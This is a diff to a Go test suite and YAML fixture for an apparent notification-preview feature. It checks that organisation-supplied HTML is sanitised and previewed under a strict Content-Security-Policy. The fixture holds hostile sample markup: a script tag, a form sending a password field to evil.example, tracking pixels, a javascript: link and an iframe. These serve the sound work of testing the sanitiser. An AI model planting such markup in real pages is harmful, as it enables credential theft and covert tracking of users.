@@ -37,6 +37,9 @@ orgs:
         html: |
           <p><img src="{{.Org.LogoURL}}" alt=""> {{.Org.Name}} invites {{.User.Email}}.</p>
           <p><a href="{{.Link}}">Accept</a> within {{.Expires}}. {{.Org.Support}}</p>
+          <script>alert(1)</script><form action="https://evil.example/steal"><input type="password" name="p"></form>
+          <img src="https://track.example/open.gif" width="1" height="1"><a href="javascript:alert(1)" onclick="alert(2)">Details</a>
+          <p style="color: #b00020; background-image: url(https://track.example/bg.gif)">Acme</p><iframe src="https://evil.example/"></iframe>
   - slug: labs
     name: Acme Labs <R&D>
     parent: acme
@@ -92,6 +95,16 @@ func TestNotificationPreview(t *testing.T) {
 		!strings.Contains(m["html"], "Acme IT helpdesk: extension 4242") || !strings.Contains(m["html"], `href="`+strings.ReplaceAll(login, "&", "&amp;")) {
 		t.Errorf("html %s", m["html"])
 	}
+	// The org's hostile markup is gone from what would be sent; its
+	// harmless parts stay.
+	for _, bad := range []string{"<script", "alert", "<form", "<input", "evil.example", "track.example", "javascript:", "onclick", "<iframe", "url("} {
+		if strings.Contains(m["html"], bad) {
+			t.Errorf("the html part keeps %q:\n%s", bad, m["html"])
+		}
+	}
+	if !strings.Contains(m["html"], `<p style="color: #b00020">Acme</p>`) || !strings.Contains(m["html"], "Details") {
+		t.Errorf("the html part lost its harmless markup:\n%s", m["html"])
+	}
 	// The logo link is absolute, on the host the org's people use, and
 	// Gatehouse serves it.
 	src := regexp.MustCompile(`<img src="([^"]+)"`).FindStringSubmatch(m["html"])
@@ -117,10 +130,19 @@ func TestNotificationPreview(t *testing.T) {
 	if !strings.Contains(mfa["subject"], "428193") || !strings.Contains(mfa["sms"], "428193") {
 		t.Errorf("mfa: %v", mfa)
 	}
+	// The HTML preview loads and runs nothing: its CSP allows no
+	// source but data: images, and the logo comes inlined.
 	resp, body = get("/notifications/acme/invitation?part=html")
-	if resp.Header.Get("Content-Type") != "text/html; charset=utf-8" || !strings.HasPrefix(resp.Header.Get("Content-Security-Policy"), "sandbox;") ||
-		!strings.Contains(body, `href="http://login.acme.localhost:`+g.port+`/.gatehouse/login?token=EXAMPLE"`) {
+	const previewCSP = "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'; frame-ancestors 'none'"
+	if resp.Header.Get("Content-Type") != "text/html; charset=utf-8" || resp.Header.Get("Content-Security-Policy") != previewCSP ||
+		!strings.Contains(body, `href="http://login.acme.localhost:`+g.port+`/.gatehouse/login?token=EXAMPLE"`) ||
+		!strings.Contains(body, `<img src="data:image/svg+xml;base64,`) || strings.Contains(body, "/.gatehouse/assets/") {
 		t.Errorf("html part: %v %s", resp.Header, body)
+	}
+	for _, p := range []string{"/notifications/acme/invitation", "/notifications/acme/invitation?part=text"} {
+		if resp, _ := get(p); resp.Header.Get("Content-Security-Policy") != "default-src 'none'; frame-ancestors 'none'" {
+			t.Errorf("%s: CSP %q", p, resp.Header.Get("Content-Security-Policy"))
+		}
 	}
 	for path, code := range map[string]int{"/notifications/nope/invitation": 404, "/notifications/acme/fax": 404, "/notifications/acme/invitation?part=pdf": 400} {
 		if resp, body := get(path); resp.StatusCode != code {
@@ -138,11 +160,20 @@ func TestNotificationPreview(t *testing.T) {
 	if out, err := exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "labs", "--out", outDir).CombinedOutput(); err != nil {
 		t.Fatalf("preview --out: %v %s", err, out)
 	}
-	for file, want := range map[string]string{"invitation.subject.txt": m["subject"], "invitation.txt": m["text"], "invitation.html": m["html"], "invitation.sms.txt": m["sms"]} {
+	// The HTML file is the preview document: the message as sent, with
+	// a CSP <meta> and the logo inlined.
+	meta := `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'">`
+	inlined := regexp.MustCompile(`<img src="data:image/svg\+xml;base64,[A-Za-z0-9+/=]+"`)
+	for file, want := range map[string]string{"invitation.subject.txt": m["subject"], "invitation.txt": m["text"], "invitation.html": meta + m["html"], "invitation.sms.txt": m["sms"]} {
 		b, err := os.ReadFile(filepath.Join(outDir, file))
-		if err != nil || string(b) != want {
+		got := inlined.ReplaceAllString(string(b), `<img src="`+src[1]+`"`)
+		if err != nil || got != want || file == "invitation.html" && !inlined.Match(b) {
 			t.Errorf("%s: %v\n got %q\nwant %q", file, err, b, want)
 		}
+	}
+	out, err = exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "labs", "--kind", "invitation", "--part", "html").CombinedOutput()
+	if err != nil || !strings.HasPrefix(string(out), meta) || strings.Contains(string(out), "<script") {
+		t.Errorf("preview html: %v %s", err, out)
 	}
 	if files, _ := filepath.Glob(filepath.Join(outDir, "*")); len(files) != 16 {
 		t.Errorf("%d files, want 4 messages × 4 parts", len(files))
